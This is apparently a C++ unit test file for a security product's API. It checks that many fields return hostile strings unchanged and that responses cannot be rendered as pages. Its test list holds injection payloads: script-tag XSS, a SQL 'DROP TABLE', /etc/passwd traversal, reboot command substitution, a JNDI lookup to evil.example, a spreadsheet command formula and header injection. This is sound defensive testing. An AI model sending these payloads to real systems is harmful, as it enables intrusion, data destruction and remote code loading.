// Text that means something elsewhere (to a browser, a database, a terminal, a shell, a log) comes back from every
// place that keeps text as the very text that went in, and does nothing on its way.
#include "tests/unit/api/api_support.h"

namespace fb::api::test {
namespace {

std::vector<std::string> strange_texts() {
  std::vector<std::string> texts = {
      "<script>alert(1)</script>",
      "\"><img src=x onerror=alert(1)>",
      "javascript:alert(1)",
      "'; DROP TABLE users; --",
      "\" OR \"\"=\"",
      "%s%n%x %00 %2e%2e",
      "../../etc/passwd",
      "$(reboot) `reboot` | reboot; reboot",
      "${jndi:ldap://evil.example/a}",
      "{{7*7}}",
      "=cmd|'/c calc'!A0",
      "line one\nline two\r\nSet-Cookie: a=b",
      "\x1b[2J\x1b]0;title\x07 tab\there",
      std::string("zero \0 byte", 11),
      "back\\slash \"quote\" /slash/",
      "Ünïcödé \xe2\x98\x83 \xf0\x9f\x92\xa3 \xd8\xa7\xd9\x84",
      "right-to-left \xe2\x80\xae"
      "fdp.exe \xe2\x80\x8b zero width \xef\xbb\xbf",
      "e\xcc\x81 is not \xc3\xa9",
      " leading and trailing ",
      "null",
      std::string(2000, 'x'),
  };
  std::string controls;
  for (char c = 1; c < 32; ++c) controls += c;
  texts.push_back(controls + "\x7f");
  return texts;
}

class Strings : public ApiTest {
 protected:
  void SetUp() override {
    ApiTest::SetUp();
    add_user("ada", {Role::admin});
    key_ = add_key("ada");
    enroll("agent-1");
  }
  net::Response call(const std::string& method, const std::string& target, const Json& body = nullptr) {
    net::Request r = with(request(method, target, body.is_null() ? "" : body.dump()), "authorization", key_);
    if (const size_t question = target.find('?'); question != std::string::npos) {
      const auto parsed = target.substr(question + 1);
      r.query[parsed.substr(0, parsed.find('='))] = parsed.substr(parsed.find('=') + 1);
    }
    return ask(std::move(r));
  }
  static std::vector<Json> lines(const net::Response& r) {
    std::vector<Json> out;
    for (size_t at = 0; at < r.body.size();) {
      const size_t end = std::min(r.body.find('\n', at), r.body.size());
      out.push_back(Json::parse(r.body.substr(at, end - at)));
      at = end + 1;
    }
    return out;
  }
  std::string key_;
};

TEST_F(Strings, CommentsOfActions) {
  for (const std::string& text : strange_texts()) {
    const net::Response made =
        call("POST", "/api/firebreak/actions", {{"command", "isolate"}, {"host", "agent-1"}, {"comment", text}});
    ASSERT_EQ(made.status, 200) << made.body;
    EXPECT_EQ(Json::parse(made.body)["comment"], text);
    const std::string id = Json::parse(made.body)["action_id"];
    EXPECT_EQ(Json::parse(call("GET", "/api/firebreak/actions/" + id).body)["comment"], text);
    const net::Response kibana =
        call("POST", "/api/endpoint/action/unisolate", {{"endpoint_ids", {"agent-1"}}, {"comment", text}});
    ASSERT_EQ(kibana.status, 200) << kibana.body;
    EXPECT_EQ(Json::parse(kibana.body)["data"]["comment"], text);
  }
  EXPECT_TRUE(Json::parse(call("GET", "/api/firebreak/audit/verify").body)["ok"]);
}

TEST_F(Strings, ListsAndItemsOfExceptions) {
  for (const std::string& text : strange_texts()) {
    const net::Response list = call("POST", "/api/exception_lists",
                                    {{"name", text}, {"description", text}, {"type", "detection"}, {"tags", {text}}});
    ASSERT_EQ(list.status, 200) << list.body;
    const Json made = Json::parse(list.body);
    EXPECT_EQ(made["name"], text);
    EXPECT_EQ(made["description"], text);
    EXPECT_EQ(made["tags"], Json::array({text}));
    const Json body{
        {"list_id", made["list_id"]},
        {"name", text},
        {"description", text},
        {"type", "simple"},
        {"comments", {{{"comment", text}}}},
        {"entries", {{{"field", "process.name"}, {"operator", "included"}, {"type", "match"}, {"value", text}}}}};
    const net::Response item = call("POST", "/api/exception_lists/items", body);
    ASSERT_EQ(item.status, 200) << item.body;
    const Json kept = Json::parse(
        call("GET", "/api/exception_lists/items?item_id=" + Json::parse(item.body)["item_id"].get<std::string>()).body);
    EXPECT_EQ(kept["name"], text);
    EXPECT_EQ(kept["entries"][0]["value"], text);
    EXPECT_EQ(kept["comments"][0]["comment"], text);
  }
}

TEST_F(Strings, KeysPoliciesTagsMaintenanceAndReasons) {
  for (const std::string& text : strange_texts()) {
    const bool fits = text.size() <= 256;
    const net::Response key = call("POST", "/api/firebreak/keys", {{"name", text}});
    EXPECT_EQ(key.status, fits ? 200 : 400) << key.body;
    if (fits) {
      EXPECT_EQ(Json::parse(key.body)["name"], text);
    }
    const net::Response policy =
        call("POST", "/api/firebreak/policies", {{"name", text}, {"description", text}, {"message", text}});
    if (policy.status == 200) {
      EXPECT_EQ(Json::parse(policy.body)["name"], text);
      EXPECT_EQ(Json::parse(policy.body)["description"], text);
    } else {
      EXPECT_EQ(policy.status, 400) << policy.body;
    }
    const net::Response tag =
        call("POST", "/api/firebreak/endpoints/agent-1/tags", {{"tag", text}, {"op", "add"}, {"comment", text}});
    EXPECT_TRUE(tag.status == 200 || tag.status == 400) << tag.body;
    const net::Response window = call(
        "POST", "/api/firebreak/maintenance",
        {{"host", "agent-1"}, {"from", "2030-01-01T00:00:00Z"}, {"to", "2030-01-01T01:00:00Z"}, {"comment", text}});
    if (window.status == 200) {
      EXPECT_EQ(Json::parse(window.body)["comment"], text);
      const Json id = Json::parse(window.body)["id"];
      for (const Json& line : lines(call("GET", "/api/firebreak/maintenance"))) {
        if (line["id"] == id) {
          EXPECT_EQ(line["comment"], text);
        }
      }
    } else {
      EXPECT_EQ(window.status, 400) << window.body;
    }
    ASSERT_EQ(call("POST", "/api/firebreak/kill_switch", {{"on", false}, {"comment", text}}).status, 200);
  }
  // What the audit says of it is one line of plain text each, and the chain holds.
  for (const Json& row : lines(call("GET", "/api/firebreak/audit?limit=10000"))) EXPECT_TRUE(row["detail"].is_string());
  EXPECT_TRUE(Json::parse(call("GET", "/api/firebreak/audit/verify").body)["ok"]);
  EXPECT_EQ(count("SELECT count(*) FROM users"), 1);
}

// A browser that is led to any answer does not run it.
TEST_F(Strings, NoAnswerIsAPage) {
  for (const char* target :
       {"/api/firebreak/actions/<script>alert(1)<%2Fscript>", "/<script>", "/healthz", "/metrics"}) {
    const net::Response r = call("GET", target);
    EXPECT_EQ(r.content_type.find("html"), std::string::npos) << target;
    EXPECT_EQ(r.headers.at("X-Content-Type-Options"), "nosniff");
    EXPECT_NE(r.headers.at("Content-Security-Policy").find("default-src 'none'"), std::string::npos);
  }
}

}  // namespace
}  // namespace fb::api::test
